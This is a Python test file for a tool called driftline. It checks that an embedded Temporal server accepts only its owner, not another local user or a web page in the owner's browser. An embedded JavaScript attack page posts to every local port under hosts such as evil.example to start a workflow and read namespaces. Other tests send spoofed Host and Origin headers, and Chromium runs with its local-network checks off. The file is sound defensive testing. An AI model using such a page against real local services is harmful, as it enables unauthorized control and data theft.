"""Who reaches the embedded Temporal: its owner, and neither another user of this machine nor a page in the owner's browser."""

import http.server
import json
import os
import pwd
import shutil
import socket
import subprocess
import tempfile
import threading
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import psutil
import pytest

from driftline import embedded
from driftline.embedded import processes, temporal
from driftline.embedded.doorman import Doors, Peers

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can try it as another user")


@pytest.fixture(scope="module")
def state() -> Iterator[embedded.State]:
    folder = Path(tempfile.mkdtemp(prefix="driftline-test-"))
    state = embedded.up(folder / "home", postgres=False)
    if state.open_doors:
        embedded.stop(folder / "home")
        shutil.rmtree(folder)
        pytest.skip(f"the doors cannot be shut here: {state.open_doors}")
    yield state
    embedded.stop(folder / "home")
    shutil.rmtree(folder)


def as_nobody(try_it: Callable[[], object]) -> str:
    """What a child process says that belongs to an unprivileged user."""
    entry = pwd.getpwnam("nobody")
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.setgroups([])
            os.setgid(entry.pw_gid)
            os.setuid(entry.pw_uid)
            said = repr(try_it())
        except BaseException as error:
            said = f"{type(error).__name__}: {error}"
        os.write(into, said.encode()[:4000])
        os._exit(0)
    os.close(into)
    with os.fdopen(out) as pipe:
        said = pipe.read()
    os.waitpid(child, 0)
    return said


def ask(state: embedded.State, *command: str) -> subprocess.CompletedProcess[str]:
    full = [temporal.binary(), *command, "--address", state.temporal_address, "--command-timeout", "5s"]
    return subprocess.run(full, capture_output=True, text=True, check=False, env={"HOME": "/nonexistent"}, cwd="/")


def page(state: embedded.State, **headers: str) -> str:
    request = urllib.request.Request(f"{state.temporal_ui}/api/v1/namespaces", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return str(answer.read().decode())
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode()}"


def test_the_owner_comes_in(state: embedded.State) -> None:
    assert "default" in ask(state, "operator", "namespace", "describe", "-n", "default").stdout
    assert processes.wait_until(lambda: "namespaceInfo" in page(state), 20)  # the UI itself connects when it likes
    assert "namespaceInfo" in page(state, Host=state.temporal_ui.removeprefix("http://").replace("127.0.0.1", "localhost"))


def listening(state: embedded.State) -> set[int]:
    """The ports of this machine that lead to the server."""
    assert state.temporal is not None
    started = psutil.Process(state.temporal.pid)
    return {c.laddr.port for p in (started, *started.children()) for c in p.net_connections() if c.status == "LISTEN"}


def test_nothing_listens_that_was_not_asked_for(state: embedded.State) -> None:
    assert listening(state) == {state.ports["temporal"], state.ports["ui"]}


@needs_root
def test_another_user_is_turned_away(state: embedded.State) -> None:
    list_runs = ["workflow", "list"]
    start = ["workflow", "start", "--type", "FineTune", "--task-queue", "driftline-workflows", "--input", "{}"]
    signal = ["workflow", "signal", "--workflow-id", "w", "--name", "verdict", "--input", '{"decision": "approve"}']
    for command in (list_runs, start, signal):
        said = as_nobody(lambda command=command: (lambda done: (done.returncode, done.stderr[-300:]))(ask(state, *command)))  # type: ignore[misc]
        assert said.startswith("(1, "), said
        assert "closed" in said or "EOF" in said or "connect" in said or "deadline" in said, said
    assert "namespaceInfo" not in as_nobody(lambda: page(state))
    assert "Error" in as_nobody(lambda: page(state))


@needs_root
def test_a_socket_that_was_closed_is_nobodys() -> None:
    """The kernel shows it as root's: whoever sends and hangs up at once would be let in."""
    peers = Peers()
    with socket.create_server(("127.0.0.1", 0)) as server:
        ours = server.getsockname()

        def hang_up() -> object:
            client = socket.create_connection(ours)
            client.sendall(b"hello")
            theirs = client.getsockname()
            client.close()
            return list(theirs)

        theirs = json.loads(as_nobody(hang_up).replace("'", '"'))
        accepted, _ = server.accept()
        with accepted:
            assert accepted.recv(5) == b"hello"
            assert peers.uid((theirs[0], theirs[1]), ours) is None


def test_whose_a_connection_is() -> None:
    peers = Peers()
    with socket.create_server(("127.0.0.1", 0)) as server:
        ours = server.getsockname()
        with socket.create_connection(ours) as client:
            assert peers.uid(client.getsockname(), ours) == os.getuid()
        with socket.socket(socket.AF_INET6) as client:
            client.connect(("::ffff:127.0.0.1", ours[1]))
            theirs = client.getsockname()
            assert peers.uid(("127.0.0.1", theirs[1]), ours) == os.getuid()


def request(**fields: str) -> bytes:
    given = {"Host": "127.0.0.1:8233"} | {name.replace("_", "-"): value for name, value in fields.items()}
    lines = [f"{name}: {value}" for name, value in given.items()]
    return "\r\n".join(["GET / HTTP/1.1", *lines, "", ""]).encode()


@pytest.mark.parametrize(
    ("head", "passes"),
    [
        (request(), True),
        (request(Host="localhost:8233"), True),
        (request(Host="LOCALHOST:8233", Origin="http://localhost:8233", Sec_Fetch_Site="same-origin"), True),
        (request(Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="navigate", Sec_Fetch_Dest="document"), True),  # a link to it
        (request(Host="evil.example:8233"), False),
        (request(Host="127.0.0.1"), False),
        (request(Origin="http://evil.example"), False),
        (request(Origin="http://127.0.0.1:9999"), False),
        (request(Origin="null"), False),
        (request(Sec_Fetch_Site="same-site", Sec_Fetch_Mode="no-cors", Sec_Fetch_Dest="empty"), False),
        (request(Sec_Fetch_Site="cross-site", Sec_Fetch_Mode="navigate", Sec_Fetch_Dest="iframe"), False),
        (request(host="127.0.0.1:8233"), False),  # two of them
        (b"GET / HTTP/1.1\r\n\r\n", False),
    ],
)
def test_which_pages_may_ask(head: bytes, passes: bool) -> None:
    assert (Doors("127.0.0.1", 8233).refusal(head) is None) == passes


ATTACK = """<script>
const tried = async () => {
  const said = {};
  for (const port of PORTS) {
    for (const host of ["127.0.0.1", "localhost", "evil.example"]) {
      const url = `http://${host}:${port}/api/v1/namespaces/default/workflows/attack`;
      const body = JSON.stringify({workflowType: {name: "FineTune"}, taskQueue: {name: "driftline-workflows"}});
      for (const mode of ["no-cors", "cors"]) {
        try {
          const answer = await fetch(url, {method: "POST", mode, headers: {"Content-Type": "text/plain"}, body});
          said[`${url} ${mode}`] = `${answer.type} ${answer.status} ${await answer.text()}`;
        } catch (error) { said[`${url} ${mode}`] = String(error); }
      }
      try { said[`${host}:${port} read`] = await (await fetch(`http://${host}:${port}/api/v1/namespaces`)).text(); }
      catch (error) { said[`${host}:${port} read`] = String(error); }
    }
  }
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
};
tried();
</script>"""


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
def test_a_page_in_the_owners_browser_is_turned_away(state: embedded.State, tmp_path: Path) -> None:
    """From another local origin, on every port, and by a name that is bound to this machine once the page is loaded."""
    said: list[dict[str, str]] = []
    done = threading.Event()
    script = ATTACK.replace("PORTS", json.dumps(sorted(listening(state))))

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(script.encode())

        def do_POST(self) -> None:
            said.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            done.set()

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    assert CHROMIUM is not None
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={tmp_path}"]
    # Without the guard that only some browsers have.
    options += ["--host-resolver-rules=MAP evil.example 127.0.0.1", "--disable-features=LocalNetworkAccessChecks"]
    browser = subprocess.Popen(
        [CHROMIUM, *options, f"http://evil.example:{server.server_address[1]}/"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        assert done.wait(90), "the page did not run"
    finally:
        os.killpg(browser.pid, 9)
        browser.wait()
        server.shutdown()
    answers = said[0]
    assert len(answers) == 9 * len(listening(state))
    assert not [answer for answer in answers.values() if "namespaceInfo" in answer or "runId" in answer], answers
    described = ask(state, "workflow", "describe", "--workflow-id", "attack")
    assert described.returncode != 0
    assert "not found" in described.stderr
    bound = f"http://evil.example:{state.ports['ui']}/api/v1/namespaces"
    read = subprocess.run([CHROMIUM, *options, "--dump-dom", bound], capture_output=True, text=True, timeout=60, check=False)
    assert "not under this name" in read.stdout
    assert "namespaceInfo" not in read.stdout
